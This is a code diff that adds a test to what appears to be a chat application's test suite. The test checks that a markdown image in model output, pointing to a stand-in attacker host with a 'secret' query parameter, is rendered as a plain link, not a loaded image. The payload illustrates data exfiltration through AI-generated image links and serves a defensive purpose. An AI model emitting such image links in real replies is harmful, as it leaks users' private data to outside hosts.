@@ -400,6 +400,17 @@ def test_model_output_with_html_and_script_is_inert_on_the_page(client, alice):
     assert "&lt;script&gt;" in body
 
 
+def test_images_in_model_output_become_links_not_requests(client, alice):
+    conversation = rows.conversation(alice)
+    rows.exchange(conversation, "q", "![pixel](https://evil.example/p.png?secret=1)")
+    content = page(client, conversation).content.decode()
+    assert "<img" not in content
+    assert (
+        '<a href="https://evil.example/p.png?secret=1" rel="noopener noreferrer nofollow">[image: pixel]</a>'
+        in content
+    )
+
+
 def test_user_messages_are_shown_as_escaped_text(client, alice):
     conversation = rows.conversation(alice)
     rows.message(conversation, "<b>bold?</b>\nsecond line")
